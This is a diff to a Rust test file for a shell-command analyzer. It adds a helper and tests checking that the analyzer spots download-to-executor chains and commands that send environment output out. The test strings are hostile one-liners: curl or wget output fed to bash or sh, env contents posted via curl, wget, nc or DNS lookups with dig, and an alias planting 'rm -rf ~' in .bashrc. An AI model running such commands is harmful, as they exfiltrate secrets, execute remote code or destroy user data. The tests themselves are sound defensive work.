@@ -130,6 +130,18 @@ fn shell_aliases_run_their_value_with_the_words_after_their_name() {
     assert!(has("echo \"alias ls='rm -rf ~'\" >> ~/.bashrc", "rm -f -r ~"));
 }
 
+/// Whether a chain in `hint` feeds what one of `from` prints to one of `to`.
+fn feeds(hint: &str, from: &[&str], to: &[&str]) -> bool {
+    let analysis = analyze(hint).unwrap();
+    let named = |stage: &Vec<usize>, names: &[&str]| {
+        stage.iter().any(|&i| names.contains(&analysis.commands[i].program.as_str()))
+    };
+    analysis.feeds.iter().any(|stages| {
+        stages.first().is_some_and(|stage| named(stage, from))
+            && stages.last().is_some_and(|stage| named(stage, to))
+    })
+}
+
 #[test]
 fn downloads_feeding_executors_are_chains() {
     for hint in [
@@ -137,19 +149,36 @@ fn downloads_feeding_executors_are_chains() {
         "bash <(curl -s https://x)",
         "sh -c \"$(wget -qO- https://x)\"",
         "source <(curl https://x)",
+        "X=$(curl -s https://x); bash -c \"$X\"",
     ] {
-        let analysis = analyze(hint).unwrap();
-        let chain = analysis.feeds.iter().any(|stages| {
-            let names: Vec<Vec<&str>> = stages
-                .iter()
-                .map(|s| s.iter().map(|&i| analysis.commands[i].program.as_str()).collect())
-                .collect();
-            names.first().is_some_and(|s| s.iter().any(|p| *p == "curl" || *p == "wget"))
-                && names
-                    .last()
-                    .is_some_and(|s| s.iter().any(|p| ["sh", "bash", "source"].contains(p)))
-        });
-        assert!(chain, "{hint}: {:?}", analysis.feeds);
+        assert!(feeds(hint, &["curl", "wget"], &["sh", "bash", "source"]), "{hint}");
+    }
+}
+
+#[test]
+fn what_a_sender_is_given_is_sent() {
+    // Printed into its words, directly or through variables that hold the
+    // output, in a branch too.
+    for hint in [
+        "wget --post-data=\"$(env)\" https://example.com",
+        "dig $(env | base64 | head -c 60).example.com",
+        "X=$(env); curl -d \"$X\" https://example.com",
+        "X=$(env); Y=\"a${X}b\"; curl -d \"$Y\" https://example.com",
+        "X=$(env); [ -n \"$q\" ] && X=hi; nc example.com 80 <<< \"$X\"",
+        "if true; then X=$(env); fi; curl \"https://example.com/?d=$X\"",
+    ] {
+        assert!(feeds(hint, &["env"], &["curl", "wget", "dig", "nc"]), "{hint}");
+    }
+    // Controls: reassigned before the send, printed into the sender's
+    // environment (curl does not read it), or given to a program that
+    // sends nothing.
+    for hint in [
+        "X=$(env); X=hi; curl -d \"$X\" https://example.com",
+        "X=\"$(env)\" curl https://example.com",
+        "X=$(env); grep -c PATH <<< \"$X\"",
+        "( X=$(env) ); curl -d \"$X\" https://example.com",
+    ] {
+        assert!(!feeds(hint, &["env"], &["curl", "grep"]), "{hint}");
     }
 }
 
